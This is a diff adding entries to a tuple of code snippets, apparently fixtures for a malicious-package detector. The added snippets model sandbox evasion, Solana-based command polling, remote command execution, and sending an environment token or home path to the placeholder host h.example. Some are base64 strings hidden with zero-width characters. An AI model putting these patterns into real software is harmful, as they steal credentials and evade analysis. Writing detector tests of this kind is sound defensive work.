@@ -41,6 +41,16 @@ SNIPPETS = (
     'exec("taskkill /F /IM chrome.exe")',
     "log(LoadLibararyFail)",
     "p = io.connect(:8080)",
+    "if (os.cpus().length < 2) {\n  stop();\n}",
+    "x = 1;\nconst rpc = 'api.mainnet-beta.solana.com';\nsetInterval(async () => tick(), 60000)",
+    "y = 2;\nsetInterval(() => c.getSignaturesForAddress(w), 60000)",
+    "k = decodeCommand(m); executeCommand(k); wait(5 * 60 * 1000)",
+    'headers = {"X-Sentry-Auth": password}; btoa(password)',
+    'const p = Buffer.from(process.env.TOKEN);\nfetch("https://h.example", {body: p})',
+    'fetch(u, {headers: {"X-Own": 1}})',
+    'axios.get("https://h.example/" + encodeURIComponent(process.env.HOME))',
+    f"a(); // {'QUJD' * 10}{chr(0x200B) * 3}{'QUJD' * 5}",
+    f"// {'QUJD' * 10}{chr(0x200B) * 2}{'QUJD' * 5}",
 )
 
 
